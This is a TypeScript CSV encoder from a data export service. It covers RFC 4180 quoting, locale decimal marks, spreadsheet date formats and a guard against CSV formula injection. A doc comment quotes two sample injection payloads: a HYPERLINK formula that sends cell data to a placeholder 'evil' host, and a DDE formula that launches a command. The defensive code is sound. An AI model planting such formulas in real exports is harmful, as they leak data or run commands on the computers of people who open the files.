import { ByteWriter } from './bytes.ts';
import type { CellType, ExportColumn } from './columns.ts';

/** Delimiters a client may ask for: `,` (RFC 4180), `;` for locales whose spreadsheets expect it, tab and `|`. */
export const CSV_DELIMITERS = [',', ';', '\t', '|'] as const;

export interface CsvOptions {
  delimiter: string;
  /** A UTF-8 byte order mark first, which some spreadsheet programs need to read UTF-8. */
  bom: boolean;
  /** Text that a spreadsheet would run as a formula gets a leading `'` (see `neutralise`); on unless asked off. */
  escapeFormulas: boolean;
  /** The decimal mark of number and money cells (`.` by default; `,` for Czech and German spreadsheets). Integers have none. */
  decimal?: '.' | ',';
  /**
   * Cells for a spreadsheet rather than a program (`locale=`): date-times as `yyyy-mm-dd hh:mm:ss,sss` (UTC, the decimal mark before the milliseconds),
   * which spreadsheets of every locale read as dates, and number-like text kept as text (see `asText`).
   */
  spreadsheet?: boolean;
}

/** The API's CSV: RFC 4180 with `,`, no byte order mark, formula-like text neutralised. */
export const CSV_DEFAULTS: CsvOptions = { delimiter: ',', bom: false, escapeFormulas: true };

type Encode = (value: unknown) => string;

/** What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab, CR. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain signed number (`-123`, `+4.5`, `-1,234.50`): a spreadsheet reads it as a number, never a formula. */
const PLAIN_NUMBER = /^[+-]?[0-9][0-9.,]*$/;

/**
 * CSV injection: a text cell such as `=HYPERLINK("http://evil/?"&A1,"Click")` or `@SUM(1+9)*cmd|' /C calc'!A0`
 * runs as a formula in the spreadsheet of whoever opens the export, with data of other rows at hand. OWASP's
 * remedy: such a cell starts with `'`, which spreadsheets take as "this is text". A text that is only a
 * signed number (an article number `-123`) is left alone: it cannot be a formula, and the quote would change
 * data that programs read. Only text and JSON cells get here: numbers, money and dates are written as they are.
 */
export const neutralise = (s: string): string => (FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s);

/** Text a spreadsheet would turn into a number or a date (`00123`, an EAN, `1.5`, `12/3`, `2026-01-02`), losing leading zeros or digits. */
const NUMBER_LIKE = /^[+-]?[0-9][0-9.,:/ -]*$/;

/**
 * Number-like text as a text cell for spreadsheets: `="00123"`, which Excel and LibreOffice show as the text
 * 00123. It is a formula only in form: the value is digits and separators (NUMBER_LIKE), so nothing of the
 * data can run; formula-like text is still neutralised by `neutralise`, which this never meets.
 */
const asText = (s: string): string => `="${s}"`;

/**
 * `2026-04-20T20:22:47.588Z` as `2026-04-20 20:22:47,588` (the fraction with the decimal mark): LibreOffice
 * Calc 7.4 in cs-CZ reads that as a date-time, but keeps the ISO form with `T…Z`, or a fraction with `.`, as
 * text. UTC, like the XLSX dates.
 */
function spreadsheetDate(iso: string, decimal: string): string {
  const m = /^(\d{4}-\d{2}-\d{2})T(\d{2}:\d{2}:\d{2})(?:\.(\d+))?Z$/.exec(iso);
  return m ? `${m[1]} ${m[2]}${m[3] ? decimal + m[3] : ''}` : iso;
}

/** What a text cell must be quoted for, as a regular expression character class's contents: the delimiter, `"`, CR, LF. */
const specialsOf = (delimiter: string): string => `${delimiter === '\t' ? '\\t' : `\\${delimiter}`}"\\r\\n`;

/** A text cell as the export writes it: formula-like text neutralised (unless asked off), quoted where it must be. */
function textEncoder(options: CsvOptions): (s: string) => string {
  const specials = specialsOf(options.delimiter);
  const special = new RegExp(`[${specials}]`);
  const quoted = (s: string): string => (special.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  // Most text needs neither quotes nor a formula guard: one test finds that, rather than one per rule (about
  // a tenth of the CSV encoding of 1 172 164 product-parameter values).
  const touched = new RegExp(`^[=+\\-@\\t\\r]|[${specials}]`);
  const plain = options.escapeFormulas ? (s: string): string => (touched.test(s) ? quoted(neutralise(s)) : s) : quoted;
  return options.spreadsheet ? (s: string): string => (NUMBER_LIKE.test(s) ? quoted(asText(s)) : plain(s)) : plain;
}

/*
 * RFC 4180 fields written by hand rather than through csv-stringify: `npm run bench:exports` encodes the rows of
 * 100 000 products in memory both ways, and csv-stringify fed row objects needs 2.0-2.8 s on this machine (more
 * than twice the whole `sqlite3 -csv` export of the table, so the 3x goal is out of reach with it), this loop
 * 0.2 s. The rules are few: a field that holds the delimiter, a quote, CR or LF is quoted, with quotes doubled;
 * records end in CRLF. Numbers, money and dates can hold none of those characters, so only text is checked.
 */
function encoder(type: CellType, options: CsvOptions): Encode {
  const comma = options.decimal === ',';
  const text = textEncoder(options);
  // As JSON shows it: drivers may hand numbers over as text (PostgreSQL numeric), JSON prints the number.
  const number = (v: unknown): string => (typeof v === 'number' ? String(v) : String(Number(v)));
  switch (type) {
    case 'integer':
      return (v) => (v === null || v === undefined ? '' : number(v));
    case 'number':
      return comma ? (v) => (v === null || v === undefined ? '' : number(v).replace('.', ',')) : (v) => (v === null || v === undefined ? '' : number(v));
    case 'money':
      return comma ? (v) => (v === null || v === undefined ? '' : String(v).replace('.', ',')) : (v) => (v === null || v === undefined ? '' : String(v));
    case 'datetime':
      return options.spreadsheet ? (v) => (v === null || v === undefined ? '' : spreadsheetDate(String(v), options.decimal ?? '.')) : (v) => (v === null || v === undefined ? '' : String(v));
    case 'json':
      return (v) => (v === null || v === undefined ? '' : text(JSON.stringify(v)));
    default:
      return (v) => (v === null || v === undefined ? '' : text(typeof v === 'string' ? v : String(v)));
  }
}

/** Encodes rows of cells as CSV, one column each, into UTF-8 bytes (see ByteWriter). */
export class CsvEncoder {
  private readonly encoders: Encode[];
  private readonly delimiter: string;
  private readonly header: string;

  constructor(columns: ExportColumn[], options: CsvOptions) {
    this.delimiter = options.delimiter;
    this.encoders = columns.map((c) => encoder(c.type, options));
    const names = encoder('string', { ...options, escapeFormulas: false, spreadsheet: false });
    this.header = (options.bom ? '\uFEFF' : '') + columns.map((c) => names(c.name)).join(this.delimiter) + '\r\n';
  }

  head(): string {
    return this.header;
  }

  /** The rows as UTF-8, in pieces of at most PIECE_BYTES (or one long row's); each piece ends with a whole record. */
  rows(rows: unknown[][], bytes = new ByteWriter()): Buffer[] {
    const { encoders, delimiter } = this;
    const n = encoders.length;
    for (const row of rows) {
      let line = encoders[0](row[0]);
      for (let i = 1; i < n; i++) line += delimiter + encoders[i](row[i]);
      bytes.write(line + '\r\n');
    }
    return bytes.take();
  }
}

/** What separates the cells of a row that SQLite joined into one text (sqlite-lines.ts). */
export const CELL_SEPARATOR = '\x1f';

/**
 * Writes CSV records from the cells of rows that the database joined with CELL_SEPARATOR into one text per row,
 * each cell already as this export writes it but for text (sqlite-lines.ts: a null as empty, numbers as
 * JavaScript writes them). Only for exports without `decimal: ','` or `spreadsheet`, whose other cells are written
 * as they come. Most rows hold no text that needs quotes or a formula guard: one regular expression over the
 * whole row says so (and that it has its count of cells), and the row is written with the separators made the
 * delimiter; otherwise it is split and each text encoded as CsvEncoder does. False (nothing written) when the
 * cells cannot be told apart (a text holding the separator): the row is then JavaScript's to read and encode.
 */
export function joinedCellsWriter(types: CellType[], options: CsvOptions): (joined: string, bytes: ByteWriter) => boolean {
  const specials = specialsOf(options.delimiter);
  const text = textEncoder(options);
  const isText = types.map((t) => t === 'string');
  const free = `[^\\x1f${specials}]*`;
  // A text cell may not start as a formula would; the others are digits, dates and money, which never need quotes.
  const textCell = options.escapeFormulas ? `(?:[^\\x1f${specials}=+\\-@\\t]${free})?` : free;
  const plain = new RegExp(`^${types.map((_t, i) => (isText[i] ? textCell : '[^\\x1f]*')).join('\\x1f')}$`);
  const { delimiter } = options;
  const separator = CELL_SEPARATOR.charCodeAt(0);
  const delimiterByte = delimiter.charCodeAt(0);
  const n = types.length;
  return (joined, bytes) => {
    if (plain.test(joined)) {
      bytes.writeReplacing(`${joined}\r\n`, separator, delimiterByte, n - 1);
      return true;
    }
    const cells = joined.split(CELL_SEPARATOR);
    if (cells.length !== n) return false;
    for (let i = 0; i < n; i++) if (isText[i]) cells[i] = text(cells[i]);
    bytes.write(`${cells.join(delimiter)}\r\n`);
    return true;
  };
}
